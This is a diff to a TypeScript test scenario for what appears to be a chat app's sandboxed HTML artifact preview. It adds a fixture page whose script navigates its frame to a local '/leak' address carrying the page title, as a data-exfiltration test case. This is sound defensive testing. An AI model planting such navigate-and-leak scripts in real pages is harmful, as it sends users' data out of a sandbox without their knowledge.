@@ -61,9 +61,13 @@ const attempt = async (name, action) => {
 /** An artifact that never yields its thread: the preview must stop it, not the window. */
 export const LOOP_ARTIFACT = '<!doctype html>\n<title>Loop</title>\n<p id="before">about to loop</p>\n<script>for (;;) {}</script>';
 
+/** An artifact that tries to leave its frame by navigating it to an address carrying what it read. */
+export const NAVIGATING_ARTIFACT =
+  "<!doctype html>\n<title>Away</title>\n<script>location.href = 'http://127.0.0.1:9/leak?d=' + encodeURIComponent(document.title);</script>";
+
 /**
  * Answers with artifacts: "clock" writes a page, "red" revises it, "hostile" writes the hostile
- * artifact, "loop" one that never ends; anything else gets an SVG.
+ * artifact, "away" one that navigates its frame, "loop" one that never ends; anything else gets an SVG.
  */
 export const artifacts: Scenario = {
   name: 'artifacts',
@@ -73,6 +77,7 @@ export const artifacts: Scenario = {
   whenExhausted: (request) => {
     const text = lastUserText(request);
     if (/hostile/i.test(text)) return reply.text(`Here it is:\n\n${fence('html', HOSTILE_ARTIFACT)}`);
+    if (/away/i.test(text)) return reply.text(`Here it is:\n\n${fence('html', NAVIGATING_ARTIFACT)}`);
     if (/loop/i.test(text)) return reply.text(`Here it is:\n\n${fence('html', LOOP_ARTIFACT)}`);
     if (/red/i.test(text)) return reply.text(`Now red:\n\n${fence('html', CLOCK_V2)}`);
     if (/clock/i.test(text)) return reply.text(`A clock:\n\n${fence('html', CLOCK_V1)}`);
